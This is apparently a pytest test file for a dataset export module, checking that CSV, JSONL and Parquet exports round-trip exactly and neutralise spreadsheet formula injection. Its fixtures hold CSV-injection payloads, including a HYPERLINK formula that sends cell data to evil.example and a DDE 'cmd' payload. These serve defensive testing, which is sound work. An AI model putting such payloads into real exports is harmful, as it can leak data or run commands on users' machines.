"""Exports: CSV (utf-8-sig), JSONL and Parquet round-trip exactly and never carry a live formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pandas as pd
import pyarrow.parquet as pq
import pytest

from lib.datasets import export
from lib.datasets.reader import read_file

TRICKY = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
          "\tleading tab", "\rleading CR", "'=already quoted", "''@double", "'", "-", "plain", "", "-5 apples",
          "line1\nline2", 'with "quotes", commas', "émoji 🎉", "NA"]


def results() -> pd.DataFrame:
    n = len(TRICKY)
    return pd.DataFrame({
        "row": list(range(1, n + 1)),
        "output": TRICKY,
        "score": [-5.0, 0.5, None] + [1.0] * (n - 3),
        "delta": [-5] * n,
        "passed": [True, False] * (n // 2) + [True] * (n % 2),
        "model": ["echo/echo"] * n,
    })


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_round_trip_equals_results(tmp_path, fmt):
    frame = results()
    path = tmp_path / f"out.{fmt}"
    export.write(frame, path, fmt)
    back = export.read_back(path)
    assert list(back.columns) == list(frame.columns)
    assert back["output"].tolist() == TRICKY
    assert back["row"].tolist() == frame["row"].tolist()
    assert back["delta"].tolist() == [-5] * len(TRICKY) and pd.api.types.is_integer_dtype(back["delta"])
    assert back["passed"].tolist() == frame["passed"].tolist()
    assert back["score"].iloc[0] == -5.0 and pd.isna(back["score"].iloc[2])
    assert back["model"].tolist() == frame["model"].tolist()


def test_csv_cells_cannot_run_as_formulas(tmp_path):
    path = tmp_path / "out.csv"
    export.write_csv(results(), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # utf-8-sig: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = [r[1] for r in rows[1:]]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    assert cells[0] == "'" + TRICKY[0]
    assert cells[6] == "''=already quoted" and cells[7] == "'''@double" and cells[9] == "'-"
    # numbers stay numbers: the integer column is written bare
    assert {r[3] for r in rows[1:]} == {"-5"} and rows[1][2] == "-5.0"
    # and the workbench's own reader sees plain text, not formulas
    parsed = read_file(raw, "out.csv")
    assert parsed.rows[0]["output"] == "'" + TRICKY[0]


def test_jsonl_and_parquet_are_neutralised_on_disk(tmp_path):
    export.write_jsonl(results(), tmp_path / "o.jsonl")
    first = json.loads((tmp_path / "o.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first["output"].startswith("'=") and first["delta"] == -5 and first["score"] == -5.0
    export.write_parquet(results(), tmp_path / "o.parquet")
    table = pq.read_table(tmp_path / "o.parquet")
    assert table.column("output")[0].as_py().startswith("'=")
    assert table.column("delta")[0].as_py() == -5


@pytest.mark.parametrize("value,expected", [
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e5", "-1e5"), ("=1", "'=1"), ("-", "'-"), ("'-5", "''-5"),
    ("@x", "'@x"), ("abc", "abc"), ("", ""), (-5, -5), (None, None), (True, True),
])
def test_neutralise_rules(value, expected):
    assert export.neutralise(value) == expected
    assert export.restore(export.neutralise(value)) == value


def test_records_datetimes_and_buffers():
    records = [{"at": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "text": "=x", "n": 1},
               {"at": datetime(2026, 1, 3, tzinfo=UTC), "text": "ok", "n": 2}]
    raw = export.to_bytes(records, "jsonl")
    lines = [json.loads(x) for x in raw.decode().splitlines()]
    assert lines[0] == {"at": "2026-01-02T03:04:05+00:00", "text": "'=x", "n": 1}
    back = export.read_back(io.BytesIO(raw), "jsonl")
    assert back["text"].tolist() == ["=x", "ok"]
    csv_back = export.read_back(io.BytesIO(export.to_bytes(records, "csv")), "csv")
    assert csv_back["text"].tolist() == ["=x", "ok"] and csv_back["n"].tolist() == [1, 2]
    assert csv_back["at"].iloc[0].startswith("2026-01-02T03:04:05")
    pq_back = export.read_back(io.BytesIO(export.to_bytes(records, "parquet")), "parquet")
    assert pq_back["at"].iloc[0] == pd.Timestamp("2026-01-02T03:04:05Z")
    with pytest.raises(ValueError, match="unknown export format"):
        export.to_bytes(records, "xlsx")


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_empty_export_round_trips(fmt):
    back = export.read_back(io.BytesIO(export.to_bytes([], fmt)), fmt)
    assert back.empty


def test_formula_column_names_are_neutralised_too(tmp_path):
    export.write_csv([{"=evil": "x", "ok": "-7"}], tmp_path / "c.csv")
    assert (tmp_path / "c.csv").read_bytes().decode("utf-8-sig").split("\r\n")[0] == "'=evil,ok"
    back = export.read_back(tmp_path / "c.csv")
    assert list(back.columns) == ["=evil", "ok"] and back["ok"].tolist() == [-7]


@pytest.mark.parametrize("value,expected", [
    (" =HYPERLINK(\"http://evil.example\")", " =HYPERLINK(\"http://evil.example\")"),
    ("\n=1+1", "\n=1+1"), ("  @SUM(A1)", "  @SUM(A1)"), ("\u3000=cmd", "\u3000=cmd"),
    ("\uff1dHYPERLINK(\"x\")", "\uff1dHYPERLINK(\"x\")"), ("\uff0bcmd", "\uff0bcmd"), ("\uff0d1", "\uff0d1"),
    ("\uff20SUM(A1)", "\uff20SUM(A1)"), ("'\uff1dx", "'\uff1dx"),
])
def test_leading_blank_and_full_width_triggers_are_neutralised(value, expected, tmp_path):
    # these reached the CSV untouched: a spreadsheet skips leading blanks, and East Asian
    # locales read full-width ＝ ＋ － ＠ as formula starters
    assert export.neutralise(value) == "'" + expected
    assert export.restore(export.neutralise(value)) == value
    export.write_csv([{"c": value}], tmp_path / "o.csv")
    assert export.read_back(tmp_path / "o.csv")["c"].tolist() == [value]


@pytest.mark.parametrize("value", [" -5", " 3.5", "\u00a0x", " plain"])
def test_numbers_and_text_after_blanks_stay_untouched(value):
    assert export.neutralise(value) == value
